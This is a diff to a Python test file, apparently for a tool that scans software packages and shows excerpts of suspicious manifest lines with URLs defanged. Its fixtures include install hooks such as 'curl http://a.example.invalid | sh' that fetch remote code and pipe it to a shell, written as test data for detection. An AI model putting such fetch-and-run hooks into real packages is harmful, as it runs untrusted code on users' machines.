@@ -55,4 +55,22 @@ def test_excerpts_are_read_from_their_files() -> None:
         Reason(evidence(file="b#c.py", line=1)),
     ]
     shown = [e.excerpt for e in with_excerpts(package, reasons)]
-    assert shown == ['"postinstall": "node x.js"', "import os", "", "", "odd()"]
+    assert shown == ["node x.js", "import os", "", "", "odd()"]
+
+
+def test_a_lifecycle_script_is_shown_whatever_the_manifest_is_written_in() -> None:
+    scripts = b'"scripts": {"preinstall": "curl http://a.example.invalid | sh", "test": "node t.js"}}'
+    package = MemoryPackage({"package.json": b'{"name": "x", "description": "' + b"long " * 50 + b'", ' + scripts})
+    reasons = [
+        Reason(evidence(behaviour="spawn.piped", file="package.json#preinstall", line=1), 30),
+        Reason(evidence(behaviour="install.hook", file="package.json", line=1), 1),
+    ]
+    inside, hook = (e.excerpt for e in with_excerpts(package, reasons))
+    assert inside == "curl hxxp://a[.]example[.]invalid | sh"
+    assert hook == f"preinstall: {inside}"
+
+
+def test_the_line_of_a_script_of_several_lines() -> None:
+    package = MemoryPackage({"package.json": b'{"scripts": {"preinstall": "echo\\ncurl x | sh"}}'})
+    (shown,) = with_excerpts(package, [Reason(evidence(file="package.json#preinstall", line=2), 12)])
+    assert shown.excerpt == "curl x | sh"
